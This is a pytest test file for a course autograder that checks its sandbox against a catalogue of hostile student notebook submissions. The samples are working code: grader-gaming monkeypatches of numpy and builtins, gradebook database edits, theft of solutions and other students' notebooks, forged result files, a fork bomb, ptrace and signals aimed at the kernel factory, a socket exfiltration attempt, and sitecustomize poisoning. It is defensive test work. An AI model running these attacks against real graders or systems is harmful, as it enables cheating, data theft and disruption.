"""Submissions that attack the grader earn no points they did not solve, are reported as
tampering where the attack is on the grading itself, and change nobody else's grade.

All of them are graded in one class, next to two honest students, by `regcourse
autograde`'s class grading (as the CI runs as root: kernels as unprivileged users), in
sequence by one grader: every kernel is forked from its one warm factory, and a witness
graded first and last proves that no submission changed what a later one sees."""

import copy
import json
import os
import re
import textwrap

import nbformat

import pytest

import catalogues
import submissions as sub
from regcourse.sandbox import slots as sandbox
from regcourse.grading.batch import grade_class
from regcourse.grading.grader import Grader
from regcourse.sandbox.slots import Limits
from regcourse.authoring.notebooks import with_cell_source
from regcourse.sandbox.launch import all_pids, uid_of

AID = "warmup"
WRONG = "def regularized_cost(X, y, w, lam):\n    return 0.0\n"
HALF = ("def regularized_cost(X, y, w, lam):\n    r = X @ w - y\n"
        "    return float(0.5 * r @ r + 0.5 * lam * w @ w)\n")  # forgets the ValueError: 2 of 3


# A stand-in for np.isclose that says "close" unless the test line asks for "not close":
# enough to pass the warm-up's own tests without computing anything.
AGREEABLE = """
import linecache, sys
def agreeable(*args, **kwargs):
    caller = sys._getframe(1)
    return "not np.isclose" not in linecache.getline(caller.f_code.co_filename, caller.f_lineno)
"""


def attack(code: str, function: str = WRONG, agreeable: bool = False):
    """The warm-up solution cell replaced by ``code`` and then ``function``; with
    ``agreeable``, ``code`` may use the function ``agreeable`` defined above."""
    prelude = AGREEABLE if agreeable else ""
    source = prelude + textwrap.dedent(code) + "\n" + textwrap.dedent(function)
    return sub.with_function(AID, "regularized_cost", source)


# student -> (submission, expected score, must be reported as tampering)
HOSTILE = {
    "allclose-replaced": (attack("""
        import numpy as np
        np.allclose = np.isclose = agreeable
        """, agreeable=True), 0.0, True),
    "input-transformer": (attack("""
        get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])
        """), 0.0, True),
    "always-equal-object": (attack("", """
        class Anything(float):
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            __hash__ = float.__hash__
        def regularized_cost(X, y, w, lam):
            if lam < 0:
                raise ValueError(lam)
            return Anything(0.0)
        """), 1.0, False),  # it does reject negative lam: that point is earned
    "gradebook-edited": (attack("""
        import glob, sqlite3
        for path in glob.glob('/tmp/**/gradebook.db', recursive=True) + glob.glob('../../**/gradebook.db', recursive=True):
            try:
                with sqlite3.connect(path) as db:
                    db.execute('UPDATE grade SET auto_score = 100')
            except Exception:
                pass
        """), 0.0, True),
    "solutions-read": (attack("""
        import glob, json
        from regcourse.authoring.notebooks import REPO
        stolen = None
        for path in [str(REPO / 'solutions/warmup/warmup.ipynb')] + glob.glob('/tmp/**/warmup.ipynb', recursive=True):
            try:
                cells = json.load(open(path))['cells']
            except Exception:
                continue
            for cell in cells:
                text = ''.join(cell['source'])
                if 'BEGIN SOLUTION' in text:
                    stolen = text
        if stolen:
            exec(stolen)
        """, ""), 0.0, True),
    "numpy-internals-patched": (attack("""
        import numpy._core.numeric
        numpy._core.numeric.isclose = lambda *a, **k: True
        """), 0.0, True),
    "builtins-patched": (attack("""
        import builtins
        builtins.isinstance = lambda *a: True
        builtins.all = lambda *a: True
        """), 0.0, True),
    "sys-modules-replaced": (attack("""
        import types
        import numpy
        fake = types.ModuleType('numpy')
        fake.__dict__.update(numpy.__dict__)
        fake.isclose = fake.allclose = agreeable
        sys.modules['numpy'] = fake
        np = fake
        """, agreeable=True), 0.0, True),
    "assertions-stripped": (attack("""
        import ast
        class NoAsserts(ast.NodeTransformer):
            def visit_Assert(self, node):
                return ast.Pass()
            def visit_Raise(self, node):
                return ast.Pass()
        get_ipython().ast_transformers.append(NoAsserts())
        """), 0.0, True),
    "exceptions-swallowed": (attack("""
        get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)
        """), 0.0, True),
    "system-exit": (attack("", """
        def regularized_cost(X, y, w, lam):
            raise SystemExit(0)
        """), 0.0, False),
    "keyboard-interrupt": (attack("", """
        def regularized_cost(X, y, w, lam):
            raise KeyboardInterrupt
        """), 0.0, False),
    "grader-environment": (attack("""
        import os
        import numpy as np
        if os.environ.get('NBGRADER_EXECUTION') or os.environ.get('REGCOURSE_SANDBOX_TOKEN'):
            np.isclose = lambda *a, **k: True
        """), 0.0, True),
    "fake-results": (attack("""
        import json, os
        os.makedirs('probe-out', exist_ok=True)
        for name in ['probe_complete'] + [f'cost_{k}_{j}' for k in range(3) for j in range(3)]:
            json.dump(True if name == 'probe_complete' else 1.0, open(f'probe-out/{name}.json', 'w'))
        for path in ['../autograde-outcome.json', '../../autograde-outcome.json']:
            try:
                json.dump({'success': True}, open(path, 'w'))
            except Exception:
                pass
        get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])
        """), 0.0, True),
    "fork-bomb": (attack("""
        import os
        children = 0
        try:
            while children < 100000:
                if os.fork() == 0:
                    import time
                    time.sleep(600)
                    os._exit(0)
                children += 1
        except OSError:
            pass
        """), 0.0, False),
    "sleeping-children": (attack("""
        import os, subprocess, sys
        subprocess.Popen(['sleep', '600'], start_new_session=True)
        if os.fork() == 0:          # a daemon: fork, new session, fork again
            os.setsid()
            if os.fork() == 0:
                import time
                time.sleep(600)
            os._exit(0)
        """, sub.solution(AID).cells[3].source), 3.0, False),  # solves it: keeps its points
    "other-student-read": (attack("""
        import glob, json
        copied = None
        for path in glob.glob('/tmp/**/submitted/*/warmup/*.ipynb', recursive=True) + glob.glob('../../../submitted/*/warmup/*.ipynb'):
            try:
                cells = json.load(open(path))['cells']
            except Exception:
                continue
            for cell in cells:
                text = ''.join(cell['source'])
                if 'def regularized_cost' in text and 'return 0.0' not in text:
                    copied = text
        if copied:
            exec(copied)
        """, ""), 0.0, True),
}
# Attacks on the warm kernel factory (regcourse.sandbox.kernel_factory), whose children the kernels
# are. Each prints "REACHED <what>" for an attempt that worked, so that
# the witness tests below can show every attempt failed; the grader reports them.
FACTORY_ATTACKS = {
    "factory-signalled": (attack("""
        import os, signal
        targets = {os.getppid()}
        for pid in filter(str.isdigit, os.listdir('/proc')):
            try:
                if b'kernel_factory' in open(f'/proc/{pid}/cmdline', 'rb').read():
                    targets.add(int(pid))
            except OSError:
                pass
        targets.discard(os.getpid())   # the kernel is a fork of the factory: not itself
        for pid in targets:
            for sig in (signal.SIGSTOP, signal.SIGKILL):
                try:
                    os.kill(pid, sig)
                    print('REACHED signal', sig, 'to', pid)
                except OSError:
                    pass
        """), 0.0, True),
    "factory-ptraced": (attack("""
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        parent = os.getppid()
        if libc.ptrace(16, parent, 0, 0) == 0:          # PTRACE_ATTACH
            print('REACHED ptrace of', parent)
            libc.ptrace(17, parent, 0, 0)               # PTRACE_DETACH
        """), 0.0, True),
    "factory-memory-read": (attack("""
        import os
        parent = os.getppid()
        try:
            maps = open(f'/proc/{parent}/maps').read().splitlines()
            start = int(maps[0].split('-')[0], 16)
            with open(f'/proc/{parent}/mem', 'rb') as memory:
                memory.seek(start)
                memory.read(4096)
            print('REACHED the memory of', parent)
        except OSError:
            pass
        """), 0.0, True),
    # a process that outlives its kernel, waiting for the kernels graded after it
    "factory-orphan": (attack("""
        import os, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                for _ in range(600):
                    time.sleep(1)
            os._exit(0)
        """, sub.solution(AID).cells[3].source), 3.0, False),
}
HOSTILE.update(FACTORY_ATTACKS)
HONEST = {"ada": (sub.solution(AID), 3.0), "bob": (sub.with_function(AID, "regularized_cost", HALF), 2.0)}
SOLVED = sub.solution(AID).cells[3].source


def network_attacks(port: int) -> dict:
    """Two submissions that try the network, then solve the exercise. As root their kernels
    have no network: every attempt fails, and they are graded like anyone else (3 points).

    - ``network-exfiltration`` sends its working folder to a listener of this test on
      127.0.0.1 and tries a host elsewhere;
    - ``other-kernels`` connects to every listening TCP port it can see and to the IPC
      sockets of the other kernels graded at the same time; if it reaches any, it keeps a
      wrong answer, so its score shows whether it got through.
    """
    exfiltrate = attack(f"""
        import os, socket
        for address in [("127.0.0.1", {port}), ("10.255.255.1", 80)]:
            try:
                with socket.create_connection(address, timeout=2) as connection:
                    connection.sendall(os.getcwd().encode())
            except OSError:
                pass
        """, SOLVED)
    other_kernels = attack("""
        import glob, os, socket
        reached = []
        for table in ["/proc/net/tcp", "/proc/net/tcp6"]:
            try:
                rows = [line.split() for line in open(table).read().splitlines()[1:]]
            except OSError:
                continue
            for row in rows:
                if row[3] == "0A":  # listening
                    port = int(row[1].rsplit(":", 1)[1], 16)
                    try:
                        socket.create_connection(("127.0.0.1", port), timeout=1).close()
                        reached.append(port)
                    except OSError:
                        pass
        for path in glob.glob("/tmp/regcourse-sandboxes-*/*/ipc-*") + glob.glob("/tmp/*/ipc-*"):
            if os.path.dirname(path) == os.getcwd():
                continue
            unix = socket.socket(socket.AF_UNIX)
            try:
                unix.connect(path)
                reached.append(path)
            except OSError:
                pass
            finally:
                unix.close()
        """, SOLVED + "\n\nif reached:\n    def regularized_cost(X, y, w, lam):\n        return 0.0\n")
    return {"network-exfiltration": (exfiltrate, 3.0, False), "other-kernels": (other_kernels, 3.0, False)}


@pytest.fixture(scope="module")
def listener():
    """A TCP listener on 127.0.0.1 that records every connection it accepts."""
    import socket
    import threading

    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    received: list[bytes] = []
    stop = threading.Event()

    def serve():
        while not stop.is_set():
            try:
                connection, _ = server.accept()
            except OSError:
                continue
            with connection:
                connection.settimeout(2)
                try:
                    received.append(connection.recv(4096))
                except OSError:
                    received.append(b"")

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], received
    stop.set()
    thread.join()
    server.close()


# What a kernel sees, printed as one JSON line: the attributes of the modules the tests use,
# the loaded modules, the environment, the random state before any seeding is not fixed
# (fresh in every kernel) but what seeding gives is, and the files it can see around it.
WITNESS = r'''
import builtins, hashlib, json, math, os, random, sys, types
import numpy, torch, matplotlib

def attributes(module):
    out = []
    for name in sorted(vars(module)):
        value = vars(module)[name]
        try:
            code = getattr(value, '__code__', None)
        except Exception:
            code = None
        if not isinstance(code, types.CodeType):   # torch.classes answers every name
            code = None
        out.append(f"{name}:{type(value).__name__}:{getattr(value, '__module__', '')}:"
                   f"{code.co_filename if code else ''}:{value if isinstance(value, (int, float, str)) else ''}")
    return hashlib.sha256('\n'.join(out).encode()).hexdigest()

torch.manual_seed(0)
numpy.random.seed(0)
random.seed(0)
here = os.getcwd()
print('WITNESS', json.dumps({
    'modules': sorted(sys.modules),
    'attributes': {m.__name__: attributes(m) for m in (numpy, torch, builtins, math, sys, os, random, matplotlib)},
    'rc': hashlib.sha256(repr(sorted(matplotlib.rcParams.items())).encode()).hexdigest(),
    'env': {k: 'varies' if k.endswith(('_TOKEN', '_PID')) else v.replace(here, 'SANDBOX')
            for k, v in os.environ.items()},
    'seeded': [torch.rand(3).tolist(), numpy.random.rand(3).tolist(), random.random()],
    'files': sorted(os.listdir('.')),
    'tmp': sorted(p for p in os.listdir('/tmp') if 'poison' in p),
}))
'''

# Attempts to leave something behind for later kernels, beyond the hostile catalogue.
POISONERS = {
    "poison-modules": attack("""
        import sys, types, numpy, torch, json
        numpy.allclose = numpy.isclose = lambda *a, **k: True
        torch.manual_seed = lambda *a, **k: None
        json.dumps = lambda *a, **k: '{}'
        sys.modules['poisoned'] = types.ModuleType('poisoned')
        """),
    "poison-environment": attack("""
        import os
        os.environ['OMP_NUM_THREADS'] = '64'
        os.environ['PYTHONSTARTUP'] = '/tmp/poison-startup.py'
        os.putenv('MPLBACKEND', 'poison')
        """),
    "poison-random-state": attack("""
        import random, numpy, torch
        random.seed(123); numpy.random.seed(123); torch.manual_seed(123)
        """),
    "poison-files": attack("""
        import glob, os, site
        for folder in glob.glob('/tmp/regcourse-factory-*') + glob.glob('/tmp/regcourse-factory-*/*') + site.getsitepackages() + ['/tmp', '..']:
            for name in ('poison.pth', 'sitecustomize.py', 'poison-startup.py'):
                try:
                    with open(os.path.join(folder, name), 'w') as f:
                        f.write('import os; os.environ["POISONED"] = "1"\\n')
                    print('LEFT' if folder == '/tmp' else 'REACHED', folder)   # /tmp: every user may
                except OSError:
                    pass
        """),
    "poison-matplotlib": attack("""
        import matplotlib
        matplotlib.rcParams['figure.dpi'] = 7
        matplotlib.use('svg')
        """),
}


BEFORE, AFTER = "witness-before", "witness-after"


@pytest.fixture(scope="module")
def graded_run(tmp_path_factory, listener):
    """The whole hostile catalogue, the network attacks, the poisoners and the honest
    neighbours in one class, graded once, in sequence, by one grader whose one warm factory
    forks every kernel, between two runs of a witness that records what a kernel sees.
    Every test of this module reads this one grading: (course, results, factory state)."""
    root = tmp_path_factory.mktemp("hostile") / "course"
    network = network_attacks(listener[0])
    witness = sub.with_extra_cell(sub.solution(AID), WITNESS)
    students = {BEFORE: witness,
                **{s: copy.deepcopy(v[0]) for s, v in {**HOSTILE, **network}.items()},
                **copy.deepcopy(POISONERS),
                **{s: copy.deepcopy(v[0]) for s, v in HONEST.items()},
                AFTER: witness}
    course = sub.class_folder(root, AID, students)
    limits = Limits(cell_seconds=10, submission_seconds=90)
    grader = Grader(course.root / course.source_directory, course.root / "nbgrader_config.py",
                    assignments=[AID], limits=limits, workdir=tmp_path_factory.mktemp("grader"), cold=False)
    try:
        grader.start_factory()
        factory = grader._factory
        assert factory.wait_ready(300), "the grader's kernel factory never answered"
        files_before = sorted(os.listdir(factory.folder))
        results = grade_class(course.root, AID, jobs=1, limits=limits, progress=None,
                              students=list(students), grader=grader)
        state = {"same": grader._factory is factory, "alive": factory.alive(),
                 "files": (files_before, sorted(os.listdir(factory.folder)))}
        yield course, {r.student: r for r in results}, state
    finally:
        grader.close()


@pytest.fixture(scope="module")
def graded(graded_run):
    course, results, _ = graded_run
    return course, results


def test_the_catalogue_is_large_enough():
    assert len(HOSTILE) >= 15


@pytest.mark.parametrize("student", HOSTILE)
def test_every_attack_is_valid_python(student):
    """An attack that fails to compile scores 0 for the wrong reason and proves nothing."""
    for cell in HOSTILE[student][0].cells:
        if cell.cell_type == "code":
            compile(cell.source, f"{student} cell", "exec")


@pytest.mark.parametrize("student", HOSTILE)
def test_hostile_submission_earns_only_what_it_solved(student, graded):
    course, results = graded
    _, expected, tampering = HOSTILE[student]
    r = results[student]
    report = " | ".join(r.tampering + r.problems + [i.message for i in r.items])
    assert r.score == expected, f"{student}: {r.score} points instead of {expected}: {report}"
    assert bool(r.tampering) == tampering, f"{student}: tampering reported = {r.tampering}"
    assert [s.score for s in course.scores(AID, student)] == [i.score for i in r.items]


@pytest.mark.skipif(not sandbox.is_root(), reason="kernels lose the network only when grading as root")
@pytest.mark.parametrize("student", ["network-exfiltration", "other-kernels"])
def test_kernels_reach_no_network_and_are_still_graded(student, graded, listener):
    course, results = graded
    r = results[student]
    report = " | ".join(r.tampering + r.problems + [i.message for i in r.items])
    assert r.score == 3.0 and not r.tampering, f"{student}: {r.score} points: {report}"
    assert listener[1] == [], f"a graded kernel reached the test's listener and sent {listener[1]}"
    assert "no network" in r.isolation


@pytest.mark.parametrize("student", HONEST)
def test_honest_neighbours_keep_their_grades(student, graded):
    course, results = graded
    r = results[student]
    assert r.score == HONEST[student][1] and not r.tampering
    assert sum(s.score for s in course.scores(AID, student)) == HONEST[student][1]


def test_tampering_is_in_the_class_report_and_the_feedback(graded):
    course, results = graded
    rows = (course.root / "grades.csv").read_text().splitlines()
    row = next(line for line in rows if line.startswith("input-transformer,"))
    assert "input transformer" in row
    autograded = course.autograded_path("allclose-replaced", AID)
    if autograded.exists():  # nbgrader produced it: the report is its first cell
        assert "Tampering detected" in autograded.read_text()


def _sandbox_processes_left_behind() -> list[int]:
    """Processes of a sandbox (its users' as root; with its marker otherwise) whose sandbox
    folder is gone, that is, whose grading has ended. Another test worker may be grading
    at the same moment: its kernels' sandbox folders (their HOME) still exist."""
    uids = None
    if sandbox.is_root():
        import pwd

        uids = {pwd.getpwnam(f"{sandbox.USER_PREFIX}{i}").pw_uid for i in range(sandbox.POOL_SIZE)}
    left = []
    for pid in all_pids():
        if uids is not None and uid_of(pid) not in uids:
            continue
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                env = dict(v.split(b"=", 1) for v in f.read().split(b"\0") if b"=" in v)
        except FileNotFoundError:  # it ended meanwhile
            continue
        except OSError:
            env = {}
        if uids is None and sandbox.MARKER.encode() not in env:
            continue
        if env.get(b"HOME") and os.path.isdir(env[b"HOME"]):
            continue  # a kernel of a grading still running
        try:
            with open(f"/proc/{pid}/stat") as f:
                state = f.read().rsplit(")", 1)[1].split()[0]
        except FileNotFoundError:
            continue
        if state == "Z":
            continue  # dead already: only its exit status waits for its parent
        left.append(pid)
    return left


def _describe(pid: int) -> str:
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            command = f.read().replace(b"\0", b" ").decode(errors="replace")[:200]
        with open(f"/proc/{pid}/stat") as f:
            fields = f.read().rsplit(")", 1)[1].split()
        return f"{pid} (state {fields[0]}, parent {fields[1]}, uid {uid_of(pid)}): {command}"
    except OSError:
        return f"{pid} (gone)"


def test_nothing_is_left_running(graded):
    import time

    for _ in range(20):   # a process killed a moment ago may still be on its way out
        left = _sandbox_processes_left_behind()
        if not left:
            break
        time.sleep(0.25)
    assert not left, "processes of the submissions are still running: " + "; ".join(map(_describe, left))


@pytest.mark.skipif(not sandbox.is_root(), reason="kernels run as other users only when grading as root")
def test_kernels_ran_as_an_unprivileged_user(graded):
    course, results = graded
    # the solutions-read attack found nothing to read: it scored 0 although the repository is on disk
    assert results["solutions-read"].score == 0
    assert os.geteuid() == 0


FOOLS_NBGRADER = ["allclose-replaced", "input-transformer", "sys-modules-replaced", "assertions-stripped"]


@pytest.mark.tier2   # what plain nbgrader does, not the course's grader: the second tier
@pytest.mark.parametrize("student", FOOLS_NBGRADER)
def test_the_attack_fools_plain_nbgrader(student, course, tmp_path):
    """Proof that these are real holes: nbgrader alone gives the attacks points."""
    path = sub.write(copy.deepcopy(HOSTILE[student][0]), tmp_path / f"{AID}.ipynb")
    course.submit(student, AID, path)
    assert course.autograde(AID, student)["success"]
    assert sum(s.score for s in course.scores(AID, student)) > 0


# -- attacks on a measure-it task ------------------------------------------------------
# The measure-it functions call the learner's own earlier functions, and their tests swap
# those functions for a moment: attacks that ride on that, graded in their own class.
MEASURED = "l2"
MEASURE_FULL = 13.0           # l2's automatic points (its written answer is pending)
RATIOS_POINTS = 3.0           # the points of test_ridge_eigen_ratios
RATIOS_HEAD = "def ridge_eigen_ratios(X, y, lam):\n"


def ratios(body: str):
    return sub.with_function(MEASURED, "ridge_eigen_ratios", RATIOS_HEAD + textwrap.indent(
        textwrap.dedent(body).strip("\n"), "    "))


MEASURE_HOSTILE = {
    # reads the effective lam off ridge_fit on a 1 x 1 problem and returns the prediction
    # at it: the test's change of ridge_fit is not a change of lam
    "ratios-sniff-the-swap": (ratios("""
        scale = 1 / ridge_fit(np.eye(1), np.ones(1), 1.0)[0] - 1
        return shrinkage_factors(X, scale * lam)
        """), MEASURE_FULL - RATIOS_POINTS, False),
    # undoes the test's swap, so that the test measures the real ridge_fit
    "ratios-pin-ridge-fit": (ratios("""
        import sys
        main = sys.modules['__main__']
        main.ridge_fit = main.__dict__.get('_own_ridge_fit', ridge_fit)
        return shrinkage_factors(X, lam)
        """), MEASURE_FULL - RATIOS_POINTS, False),
    # agrees with every comparison made after it is first called
    "ratios-allclose-replaced": (ratios("""
        import numpy
        numpy.allclose = numpy.isclose = lambda *a, **k: True
        return np.zeros(X.shape[1])
        """), 0.0, True),  # tampering: the submission earns nothing
    # writes the probe's expected outputs itself
    "ratios-probe-outputs-written": (ratios("""
        import json, os
        os.makedirs('probe-out', exist_ok=True)
        for name in ['ratios_0', 'ratios_1', 'ratios_2', 'ratios_follow']:
            json.dump([0.5] * X.shape[1], open(f'probe-out/{name}.json', 'w'))
        return shrinkage_factors(X, lam)
        """), 0.0, True),
}
RIDGE_POINTS = 3.0            # the points of test_ridge_fit


def stash_the_course_ridge_fit():
    """A wrong ridge_fit that turns into the course's once the measurement has seen it:
    the course's version enters the kernel only after ridge_fit's own test has run."""
    nb = with_cell_source(ratios("""
        if getattr(ridge_fit, "__module__", "__main__") != "__main__":
            STASH.append(ridge_fit)   # the course's version, swapped in for this cell
        _, Q = np.linalg.eigh(X.T @ X)
        Q = Q[:, ::-1]
        return (Q.T @ ridge_fit(X, y, lam)) / (Q.T @ ridge_fit(X, y, 0.0))
        """), "ridge_fit", textwrap.dedent("""
        STASH = []


        def ridge_fit(X, y, lam):
            if lam < 0:
                raise ValueError("lam < 0")
            if STASH:
                return STASH[-1](X, y, lam)
            return np.linalg.solve(X.T @ X + 2 * lam * np.eye(X.shape[1]), X.T @ y)
        """).strip("\n"))
    return nb


# a wrong ridge_fit that takes the course's version from the measurement's cell
MEASURE_HOSTILE["ratios-stash-the-course-ridge-fit"] = (stash_the_course_ridge_fit(), MEASURE_FULL - RIDGE_POINTS, False)
MEASURE_HONEST = {"cy": (sub.solution(MEASURED), MEASURE_FULL)}


@pytest.fixture(scope="module")
def graded_measure(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile-measure") / "course"
    students = {s: copy.deepcopy(v[0]) for s, v in {**MEASURE_HOSTILE, **MEASURE_HONEST}.items()}
    course = sub.class_folder(root, MEASURED, students)
    limits = Limits(cell_seconds=20, submission_seconds=120)
    results = grade_class(course.root, MEASURED, jobs=2, limits=limits, progress=None)
    return course, {r.student: r for r in results}


@pytest.mark.parametrize("student", [*MEASURE_HOSTILE, *MEASURE_HONEST])
def test_attacks_on_a_measurement_earn_only_what_they_solved(student, graded_measure):
    course, results = graded_measure
    _, expected, tampering = {**MEASURE_HOSTILE, **{k: (*v, False) for k, v in MEASURE_HONEST.items()}}[student]
    r = results[student]
    report = " | ".join(r.tampering + r.problems + [i.message for i in r.items])
    assert r.score == expected, f"{student}: {r.score} points instead of {expected}: {report}"
    assert bool(r.tampering) == tampering, f"{student}: tampering reported = {r.tampering}"


# The noise measurement of `augmentation`: its checks swap noisy_copies for copies without
# noise and for noise that makes least squares exactly ridge. This attack recognizes each
# swap and answers it, and returns the 1/sqrt(K) law for the real noisy_copies: the checks
# on the real copies take the points (no tampering: it forges nothing).
NOISE_MEASURED = "augmentation"
NOISE_FULL = 14.0             # augmentation's automatic points (its written answer is pending)
NOISE_HOSTILE = {
    "distances-sniff-the-swaps": (sub.with_function(NOISE_MEASURED, "noise_ridge_distances", textwrap.dedent("""
        def noise_ridge_distances(X, y, sigma, copies, rng):
            n, d = X.shape
            ridge = np.linalg.solve(X.T @ X + n * sigma ** 2 * np.eye(d), X.T @ y)
            Xn, _ = noisy_copies(X, y, sigma, 2, rng)
            if np.allclose(Xn[:n], X):          # copies without noise: plain least squares
                plain = np.linalg.lstsq(X, y, rcond=None)[0]
                return np.full(len(copies), np.linalg.norm(plain - ridge) / np.linalg.norm(ridge))
            if np.allclose(Xn[:n] + Xn[n:], 2 * X):   # noise +H, -H: ridge itself
                return np.zeros(len(copies))
            return 0.3 / np.sqrt(np.asarray(copies, dtype=float))
        """).strip("\n")), NOISE_FULL - 3.0, False),
    "cy": (sub.solution(NOISE_MEASURED), NOISE_FULL, False),
}


@pytest.mark.parametrize("student", NOISE_HOSTILE)
def test_attacks_on_the_noise_measurement_earn_only_what_they_solved(student):
    results = catalogues.graded("hostile-augmentation", NOISE_MEASURED, {s: v[0] for s, v in NOISE_HOSTILE.items()})
    _, expected, tampering = NOISE_HOSTILE[student]
    r = results[student]
    report = " | ".join(r.tampering + r.problems + [i.message for i in r.items])
    assert r.score == expected, f"{student}: {r.score} points instead of {expected}: {report}"
    assert bool(r.tampering) == tampering, f"{student}: tampering reported = {r.tampering}"


@pytest.mark.parametrize("student", ["sleeping-children", "factory-orphan"])
def test_processes_left_behind_are_stopped_and_reported(student, graded):
    course, results = graded
    problems = " | ".join(results[student].problems)
    assert "left running were stopped" in problems, problems


# -- isolation: what the witness saw, first and last ------------------------------------------

def _printed(course, student: str) -> str:
    path = course.autograded_path(student, AID)
    if not path.exists():
        return ""
    return "".join(o.get("text", "") for c in nbformat.read(str(path), as_version=4).cells
                   for o in c.get("outputs", []) if o.get("output_type") == "stream")


def _seen(course, results, student: str) -> dict:
    assert results[student].score == 3 and not results[student].notes, results[student].table()
    found = re.search(r"^WITNESS (.*)$", _printed(course, student), re.M)
    assert found, f"the witness printed: {_printed(course, student)[-3000:]}"
    return json.loads(found.group(1))


def test_later_kernels_see_what_earlier_kernels_saw(graded):
    course, results = graded
    before, after = _seen(course, results, BEFORE), _seen(course, results, AFTER)
    for key in before:
        assert before[key] == after[key], f"{key} changed between the first and the last kernel"


def test_one_factory_forked_every_kernel_and_outlived_every_attack(graded_run):
    _, results, state = graded_run
    assert state["same"] and state["alive"], "the factory died or was replaced during the sequence"
    assert state["files"][0] == state["files"][1], "files in the factory's folder changed"
    cold = {name: r.notes for name, r in results.items() if r.notes}
    assert not cold, f"kernels started cold after an attack: {cold}"


@pytest.mark.skipif(not sandbox.is_root(), reason="only as root do kernels run as users that cannot reach the factory")
def test_no_attack_on_the_factory_got_through(graded):
    course, results = graded
    reached = {name: line for name in results for line in _printed(course, name).splitlines()
               if line.startswith("REACHED")}
    assert not reached, f"attacks reached the factory or its files: {reached}"


@pytest.mark.skipif(not sandbox.is_root(), reason="without root a kernel's files cannot be told from the grader's")
def test_files_left_in_shared_folders_are_removed_and_reported(graded):
    course, results = graded
    assert "LEFT /tmp" in _printed(course, "poison-files")
    problems = " | ".join(results["poison-files"].problems)
    assert "left in shared folders were removed" in problems and "/tmp/poison.pth" in problems, problems

